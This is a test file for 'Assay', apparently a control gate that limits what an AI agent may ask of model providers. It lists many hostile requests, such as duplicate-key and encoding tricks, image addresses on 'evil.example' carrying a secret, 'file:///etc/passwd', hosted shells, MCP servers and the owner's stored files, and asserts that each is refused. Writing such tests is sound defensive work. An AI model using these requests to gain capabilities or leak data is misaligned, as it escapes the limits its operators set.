"""Requests by which an agent tries to get more from the gate than answers to its own text, and
requests of real clients.
"""

from __future__ import annotations

import asyncio
import json
from collections.abc import Iterator, Mapping
from pathlib import Path
from typing import Any

import pytest
from aiohttp import ClientSession, UnixConnector
from tests.attack.figures import publish_cases
from tests.support.model_server import ModelServer, Said

from assay.domain.agent_limits import AgentLimits
from assay.providers.directory import Directory
from assay.providers.gate_requests import GateRules
from assay.providers.vendors import VENDORS

KEY = "sk-of-the-owner"
PICTURE = "data:image/png;base64,iVBORw0KGgo="
CHAT, RESPONSES, MESSAGES = "/v1/chat/completions", "/v1/responses", "/v1/messages"
ASKED: Mapping[str, Mapping[str, Any]] = {
    CHAT: {
        "model": "gpt-4o-mini",
        "max_tokens": 5,
        "messages": [{"role": "user", "content": "hi"}],
    },
    RESPONSES: {"model": "gpt-4o-mini", "max_output_tokens": 5, "input": "hi"},
    MESSAGES: {
        "model": "claude-haiku-4-5",
        "max_tokens": 5,
        "messages": [{"role": "user", "content": "hi"}],
    },
}
URL = "https://evil.example/?secret=1"


def chat(**fields: object) -> tuple[str, bytes]:
    return CHAT, json.dumps({**ASKED[CHAT], **fields}).encode()


def responses(**fields: object) -> tuple[str, bytes]:
    return RESPONSES, json.dumps({**ASKED[RESPONSES], **fields}).encode()


def messages(**fields: object) -> tuple[str, bytes]:
    return MESSAGES, json.dumps({**ASKED[MESSAGES], **fields}).encode()


def chat_part(**part: object) -> tuple[str, bytes]:
    return chat(messages=[{"role": "user", "content": [part]}])


def item(**part: object) -> tuple[str, bytes]:
    return responses(input=[part])


def input_part(**part: object) -> tuple[str, bytes]:
    return item(role="user", content=[part])


def block(**part: object) -> tuple[str, bytes]:
    return messages(messages=[{"role": "user", "content": [part]}])


def written(path: str, text: str) -> tuple[str, bytes]:
    """Return the usual request with further text before its closing brace."""
    return path, json.dumps(ASKED[path]).encode()[:-1] + text.encode() + b"}"


SEARCH = {"type": "web_search"}
FUNCTION = {"type": "function", "function": {"name": "f", "parameters": {"type": "object"}}}
HOSTILE: Mapping[str, tuple[str, bytes]] = {
    "repeated tools, the first searches": written(
        CHAT, ',"tools":[{"type":"web_search"}],"tools":[]'
    ),
    "repeated tools, the last searches": written(
        CHAT, ',"tools":[],"tools":[{"type":"web_search"}]'
    ),
    "repeated key written with an escape": written(
        CHAT, ',"tools":[],"t\\u006fols":[{"type":"web_search"}]'
    ),
    "repeated key inside a block": written(
        MESSAGES, ',"system":[{"type":"text","text":"a","text":"b"}]'
    ),
    "repeated model": written(RESPONSES, ',"model":"gpt-4o-search-preview"'),
    "repeated limit of tokens": written(MESSAGES, ',"max_tokens":100000'),
    "key with another case": chat(Tools=[SEARCH]),
    "key with a space": chat(**{"tools ": [SEARCH]}),
    "UTF-16": (CHAT, json.dumps({**ASKED[CHAT], "tools": [SEARCH]}).encode("utf-16")),
    "byte order mark": (
        CHAT,
        b"\xef\xbb\xbf" + json.dumps({**ASKED[CHAT], "tools": [SEARCH]}).encode(),
    ),
    "UTF-7 in a text that is not UTF-8": (
        CHAT,
        b'{"model":"gpt-4o-mini","messages":[],"user":"\xff"}',
    ),
    "NaN": written(CHAT, ',"temperature":NaN'),
    "a second document": (CHAT, json.dumps(ASKED[CHAT]).encode() + b"{}"),
    "no object": (CHAT, b"[]"),
    "nested 100,000 times": written(CHAT, f',"tools":{"[" * 100_000}{"]" * 100_000}'),
    "nested arguments": block(
        type="tool_use", id="t", name="n", input=json.loads("[" * 90 + "]" * 90)
    ),
    "type that hides an image address": chat_part(type="tool_use", image_url={"url": URL}),
    "function call that hides an image": item(
        type="function_call", name="f", arguments="", image_url=URL
    ),
    "text that hides an image address": chat_part(type="text", text="a", image_url={"url": URL}),
    "type that is a list": chat_part(type=["image_url"], image_url={"url": URL}),
    "image without a type": chat_part(image_url={"url": URL}),
    "image by address": chat_part(type="image_url", image_url={"url": URL}),
    "image by bare address": chat_part(type="image_url", image_url=URL),
    "image by data: and an address": chat_part(
        type="image_url", image_url={"url": f"{PICTURE} {URL}"}
    ),
    "image by DATA: in capitals": chat_part(type="image_url", image_url={"url": f"DATA:,{URL}"}),
    "image by a file address": chat_part(type="image_url", image_url={"url": "file:///etc/passwd"}),
    "image by a storage address": chat_part(
        type="image_url", image_url={"url": "gs://bucket/object"}
    ),
    "data: of another kind": chat_part(
        type="image_url", image_url={"url": "data:text/html;base64,AA=="}
    ),
    "video": chat_part(type="video_url", video_url={"url": URL}),
    "sound": chat_part(type="input_audio", input_audio={"data": "AA==", "format": "wav"}),
    "file of the owner": chat_part(type="file", file={"file_id": "file-1"}),
    "file of the owner beside data": chat_part(
        type="file", file={"file_data": "data:text/plain;base64,AA==", "file_id": "file-1"}
    ),
    "sound of the owner": chat(messages=[{"role": "assistant", "audio": {"id": "audio_1"}}]),
    "search by a tool": chat(tools=[SEARCH]),
    "search by options": chat(web_search_options={}),
    "search by a plug-in": chat(plugins=[{"id": "web"}]),
    "search after a function": chat(tools=[FUNCTION, SEARCH]),
    "function that also is a search": chat(tools=[{**FUNCTION, "web_search": {"enable": True}}]),
    "tool without a type": chat(tools=[{"function": FUNCTION["function"], "server_url": URL}]),
    "server of tools": chat(mcp_servers=[{"url": URL}]),
    "schema at an address": chat(
        tools=[{"type": "function", "function": {"name": "f", "parameters": {"$ref": URL}}}]
    ),
    "model that searches": chat(model="gpt-4o-search-preview"),
    "model with :online": chat(model="openai/gpt-5:online"),
    "model with :nitro": chat(model="openai/gpt-5:nitro"),
    "router": chat(model="openrouter/auto"),
    "preset as a model": chat(model="@preset/owner"),
    "preset after a model": chat(model="openai/gpt-5@preset/owner"),
    "preset as a field": chat(preset="owner"),
    "other models": chat(models=["openai/gpt-5:online"]),
    "other providers": chat(provider={"order": ["elsewhere"]}),
    "route": chat(route="fallback"),
    "model that is a list": chat(model=["gpt-4o-mini"]),
    "model with a path": chat(model="../files"),
    "no model": (CHAT, b'{"messages":[{"role":"user","content":"hi"}]}'),
    "dearer service": chat(service_tier="priority"),
    "dearer prediction": chat(prediction={"type": "content", "content": "x"}),
    "dearer output": chat(modalities=["text", "audio"], audio={"voice": "alloy", "format": "wav"}),
    "unknown field": chat(new_feature={"url": URL}),
    "negative limit of tokens": chat(max_tokens=-1),
    "limit of tokens that is a text": chat(max_tokens="5"),
    "negative number of answers": chat(n=-5),
    "hosted shell": responses(tools=[{"type": "shell", "environment": {"type": "container_auto"}}]),
    "hosted Python": responses(tools=[{"type": "code_interpreter", "container": {"type": "auto"}}]),
    "hosted computer": responses(
        tools=[{"type": "computer_use_preview", "environment": "browser"}]
    ),
    "hosted pictures": responses(tools=[{"type": "image_generation"}]),
    "files of the owner by a tool": responses(
        tools=[{"type": "file_search", "vector_store_ids": ["vs_1"]}]
    ),
    "MCP server": responses(tools=[{"type": "mcp", "server_label": "a", "server_url": URL}]),
    "MCP connector of the owner": responses(
        tools=[{"type": "mcp", "server_label": "a", "connector_id": "connector_gmail"}]
    ),
    "namespace with an MCP server": responses(
        tools=[
            {
                "type": "namespace",
                "name": "a",
                "tools": [{"type": "mcp", "server_label": "a", "server_url": URL}],
            }
        ]
    ),
    "namespace with an address": responses(
        tools=[{"type": "namespace", "name": "a", "tools": [], "server_url": URL}]
    ),
    "stored prompt": responses(prompt={"id": "pmpt_1"}),
    "stored response": responses(previous_response_id="resp_1"),
    "stored conversation": responses(conversation="conv_1"),
    "stored item": item(type="item_reference", id="msg_1"),
    "stored item without a type": item(id="msg_1"),
    "answer in the background": responses(background=True),
    "output of hosted files": responses(include=["file_search_call.results"]),
    "picture by address in an item": input_part(type="input_image", image_url=URL),
    "picture of the owner in an item": input_part(type="input_image", file_id="file-1"),
    "file by address in an item": input_part(type="input_file", file_url=URL),
    "file of the owner in an item": input_part(type="input_file", file_id="file-1"),
    "picture by address in a result": item(
        type="function_call_output", call_id="c", output=[{"type": "input_image", "image_url": URL}]
    ),
    "approval of an MCP call": item(
        type="mcp_approval_response", approval_request_id="r", approve=True
    ),
    "choice of a hosted tool": responses(tool_choice={"type": "web_search_preview"}),
    "search by Anthropic": messages(tools=[{"type": "web_search_20250305", "name": "web_search"}]),
    "fetch by Anthropic": messages(tools=[{"type": "web_fetch_20250910", "name": "web_fetch"}]),
    "Python by Anthropic": messages(
        tools=[{"type": "code_execution_20250825", "name": "code_execution"}]
    ),
    "MCP tools by Anthropic": messages(tools=[{"type": "mcp_toolset", "mcp_server_name": "a"}]),
    "MCP server of Anthropic": messages(mcp_servers=[{"type": "url", "url": URL, "name": "a"}]),
    "container of Anthropic": messages(
        container={"skills": [{"type": "anthropic", "skill_id": "pdf"}]}
    ),
    "tool called by hosted code": messages(
        tools=[
            {
                "name": "a",
                "input_schema": {"type": "object"},
                "allowed_callers": ["code_execution_20250825"],
            }
        ]
    ),
    "tool with a kind of its own making": messages(tools=[{"type": "bash_*", "name": "bash"}]),
    "image by address for Anthropic": block(type="image", source={"type": "url", "url": URL}),
    "image of the owner for Anthropic": block(
        type="image", source={"type": "file", "file_id": "file_1"}
    ),
    "document by address for Anthropic": block(type="document", source={"type": "url", "url": URL}),
    "document of the owner for Anthropic": block(
        type="document", source={"type": "file", "file_id": "file_1"}
    ),
    "upload to a container": block(type="container_upload", file_id="file_1"),
    "image by address in a result of Anthropic": block(
        type="tool_result",
        tool_use_id="t",
        content=[{"type": "image", "source": {"type": "url", "url": URL}}],
    ),
    "image by address in a document": block(
        type="document",
        source={
            "type": "content",
            "content": [{"type": "image", "source": {"type": "url", "url": URL}}],
        },
    ),
    "image by address in the system prompt": messages(
        system=[{"type": "image", "source": {"type": "url", "url": URL}}]
    ),
    "fast mode": messages(speed="fast"),
    "dearer region": messages(inference_geo="us"),
    "keys of the account": ("/v1/organization/admin_api_keys", b"{}"),
    "files": ("/v1/files", b"{}"),
    "batches": ("/v1/messages/batches", b"{}"),
    "path with an escape": ("/v1/chat%2Fcompletions", json.dumps(ASKED[CHAT]).encode()),
    "path with two slashes": ("/v1//chat/completions", json.dumps(ASKED[CHAT]).encode()),
    "parameter of the address": (f"{CHAT}?api-version=2", json.dumps(ASKED[CHAT]).encode()),
}


@pytest.fixture(scope="module")
def server() -> Iterator[ModelServer]:
    with ModelServer() as running:
        running.answer = lambda call: Said(text="hello", input_tokens=100, output_tokens=10)
        yield running


def send(
    server: ModelServer,
    path: str,
    body: bytes,
    *,
    headers: Mapping[str, str] | None = None,
    network: bool = False,
    model: str = "",
) -> tuple[int, str, Mapping[str, str]]:
    """Send a request to the gate of its protocol as an agent does; return status, text and headers
    of the reply.
    """
    provider = "anthropic" if path.startswith(MESSAGES) else "openai"
    addresses = {"ANTHROPIC_BASE_URL": server.address, "OPENAI_BASE_URL": server.url}
    environment = {**addresses, "ANTHROPIC_API_KEY": KEY, "OPENAI_API_KEY": KEY}

    async def ask() -> tuple[int, str, Mapping[str, str]]:
        directory = Directory(environment, base_folder=Path())
        gate = directory.gate(
            f"{provider}/{model}" if model else provider, network=network, limits=AgentLimits()
        )
        try:
            async with (
                gate.open() as gateway,
                ClientSession(connector=UnixConnector(gateway.socket)) as client,
            ):
                (token,) = gateway.variables.values()
                sent = {"x-api-key": token, "content-type": "application/json", **(headers or {})}
                async with client.post(f"http://gate{path}", data=body, headers=sent) as reply:
                    return reply.status, await reply.text(), reply.headers
        finally:
            await directory.close()

    return asyncio.run(ask())


@pytest.mark.slow
@pytest.mark.parametrize("attack", HOSTILE)
def test_a_request_for_more_than_an_answer_is_refused(server: ModelServer, attack: str) -> None:
    before = len(server.calls)
    path, body = HOSTILE[attack]
    status, text, _ = send(server, path, body)
    assert status == 403, text
    assert "Assay: " in json.loads(text)["error"]["message"]
    assert len(server.calls) == before, "the provider got the request"


def test_the_hostile_requests_are_counted() -> None:
    assert len(HOSTILE) >= 40
    publish_cases(
        "request of an agent for more than an answer",
        test_a_request_for_more_than_an_answer_is_refused,
    )


HEADERS = {
    "anthropic-beta": "files-api-2025-04-14,interleaved-thinking-2025-05-14,mcp-client-2025-04-04",
    "openai-beta": "assistants=v2",
}


def test_headers_that_open_more_are_left_out(server: ModelServer) -> None:
    path, body = messages()
    assert (
        send(
            server,
            path,
            body,
            headers={**HEADERS, "OpenAI-Organization": "org-1", "X-Anything": "a"},
        )[0]
        == 200
    )
    sent = {name.lower(): value for name, value in server.calls[-1].headers.items()}
    assert sent["anthropic-beta"] == "interleaved-thinking-2025-05-14"
    assert not {"openai-beta", "openai-organization", "x-anything"} & sent.keys()


def test_an_agent_with_one_model_may_ask_no_other(server: ModelServer) -> None:
    assert send(server, *chat(), model="gpt-4o-mini")[0] == 200
    status, text, _ = send(server, *chat(model="gpt-4o"), model="gpt-4o-mini")
    assert (status, "'gpt-4o-mini'" in text) == (403, True)


CACHED = {"cache_control": {"type": "ephemeral", "ttl": "1h"}}
SCHEMA = {
    "$schema": "http://json-schema.org/draft-07/schema#",
    "type": "object",
    "properties": {"url": {"type": "string"}},
}
CLAUDE_CODE = {
    "model": "claude-haiku-4-5",
    "max_tokens": 32000,
    "stream": True,
    "temperature": 1,
    "system": [
        {"type": "text", "text": "You are an agent."},
        {"type": "text", "text": "Work.", **CACHED},
    ],
    "metadata": {"user_id": "user_1_account__session_2"},
    "thinking": {"type": "enabled", "budget_tokens": 31999},
    "context_management": {"edits": [{"type": "clear_thinking_20251015", "keep": "all"}]},
    "output_config": {"effort": "high"},
    "tools": [
        {
            "name": "WebFetch",
            "description": "Fetch.",
            "input_schema": SCHEMA,
            "eager_input_streaming": True,
        },
        {
            "type": "custom",
            "name": "Bash",
            "description": "Run.",
            "input_schema": {"type": "object"},
            **CACHED,
        },
        {"type": "text_editor_20250728", "name": "str_replace_based_edit_tool"},
    ],
    "messages": [
        {
            "role": "user",
            "content": [
                {"type": "text", "text": "Fix it."},
                {"type": "text", "text": "Now.", **CACHED},
            ],
        },
        {
            "role": "assistant",
            "content": [
                {"type": "thinking", "thinking": "Hm.", "signature": "c2ln"},
                {"type": "redacted_thinking", "data": "ZGF0YQ=="},
                {
                    "type": "tool_use",
                    "id": "toolu_1",
                    "name": "WebFetch",
                    "input": {"url": "https://a.example", "type": "url"},
                },
            ],
        },
        {
            "role": "user",
            "content": [
                {
                    "type": "tool_result",
                    "tool_use_id": "toolu_1",
                    "is_error": False,
                    "content": [
                        {"type": "text", "text": "ok"},
                        {
                            "type": "image",
                            "source": {
                                "type": "base64",
                                "media_type": "image/png",
                                "data": "iVBORw0KGgo=",
                            },
                        },
                    ],
                },
                {
                    "type": "document",
                    "source": {
                        "type": "base64",
                        "media_type": "application/pdf",
                        "data": "JVBERi0=",
                    },
                },
            ],
        },
    ],
}
CODEX = {
    "model": "gpt-4o-mini",
    "instructions": "You are an agent.",
    "input": [
        {
            "type": "message",
            "role": "developer",
            "content": [{"type": "input_text", "text": "Rules."}],
        },
        {"type": "message", "role": "user", "content": [{"type": "input_text", "text": "Fix it."}]},
        {
            "type": "reasoning",
            "id": "rs_1",
            "summary": [{"type": "summary_text", "text": "a"}],
            "encrypted_content": "AAAA",
        },
        {
            "type": "function_call",
            "id": "fc_1",
            "name": "shell",
            "arguments": '{"command":["ls"]}',
            "call_id": "call_1",
        },
        {"type": "function_call_output", "call_id": "call_1", "output": "README.md"},
        {
            "type": "custom_tool_call",
            "name": "apply_patch",
            "input": "*** Begin Patch",
            "call_id": "call_2",
            "status": "completed",
        },
        {"type": "custom_tool_call_output", "call_id": "call_2", "output": "Done!"},
        {
            "type": "message",
            "role": "assistant",
            "content": [{"type": "output_text", "text": "Done."}],
        },
        {
            "role": "user",
            "content": [{"type": "input_image", "image_url": PICTURE, "detail": "auto"}],
        },
    ],
    "tools": [
        {
            "type": "function",
            "name": "shell",
            "description": "Run.",
            "strict": False,
            "parameters": {"type": "object"},
        },
        {
            "type": "custom",
            "name": "apply_patch",
            "format": {"type": "grammar", "syntax": "lark", "definition": "start: x"},
        },
        {"type": "local_shell"},
    ],
    "tool_choice": "auto",
    "parallel_tool_calls": False,
    "reasoning": {"effort": "medium", "summary": "auto"},
    "store": False,
    "stream": True,
    "include": ["reasoning.encrypted_content"],
    "prompt_cache_key": "0199",
    "text": {"verbosity": "low"},
}
CHATTING = {
    "model": "gpt-4o-mini",
    "messages": [
        {"role": "system", "content": "You are an agent."},
        {
            "role": "user",
            "content": [
                {"type": "text", "text": "Look."},
                {"type": "image_url", "image_url": {"url": PICTURE}},
            ],
        },
        {
            "role": "assistant",
            "content": None,
            "refusal": None,
            "tool_calls": [
                {
                    "id": "c1",
                    "type": "function",
                    "function": {"name": "fetch", "arguments": f'{{"url":"{URL}"}}'},
                }
            ],
        },
        {"role": "tool", "tool_call_id": "c1", "content": "ok"},
    ],
    "tools": [
        {"type": "function", "function": {"name": "fetch", "parameters": SCHEMA, "strict": True}}
    ],
    "tool_choice": {"type": "function", "function": {"name": "fetch"}},
    "max_completion_tokens": 100,
    "reasoning_effort": "low",
    "stop": ["END"],
    "n": 1,
    "seed": 7,
    "response_format": {
        "type": "json_schema",
        "json_schema": {"name": "a", "schema": {"type": "object"}, "strict": True},
    },
}


@pytest.mark.parametrize(
    ("path", "document"),
    [(f"{MESSAGES}?beta=true", CLAUDE_CODE), (RESPONSES, CODEX), (CHAT, CHATTING)],
    ids=["claude-code", "codex", "chat"],
)
def test_requests_of_real_clients_pass_as_they_are(
    server: ModelServer, path: str, document: Mapping[str, Any]
) -> None:
    body = json.dumps(document).encode()
    rules = GateRules(vendor=VENDORS["anthropic" if path.startswith(MESSAGES) else "openai"])
    assert rules.read(path.partition("?")[0], body).document == document
    _, text, _ = send(server, path, body)
    assert "Assay: " not in text
    if path != RESPONSES:  # which this server does not have
        assert server.calls[-1].body == document


def test_hints_are_left_out_with_a_note(server: ModelServer) -> None:
    status, _, headers = send(server, *chat(metadata={"a": "b"}))
    assert status == 200
    assert headers["x-assay-note"] == "left out: The request.metadata"
    assert "metadata" not in server.calls[-1].body


def test_a_trial_with_a_network_may_let_the_provider_search(server: ModelServer) -> None:
    search = messages(tools=[{"type": "web_search_20250305", "name": "web_search", "max_uses": 2}])
    assert send(server, *search, network=True)[0] == 200
    assert (
        send(
            server,
            *chat_part(type="image_url", image_url={"url": "https://a.example/a.png"}),
            network=True,
        )[0]
        == 200
    )
    for name in (
        "MCP server",
        "hosted shell",
        "files of the owner by a tool",
        "document of the owner for Anthropic",
    ):
        assert send(server, *HOSTILE[name], network=True)[0] == 403
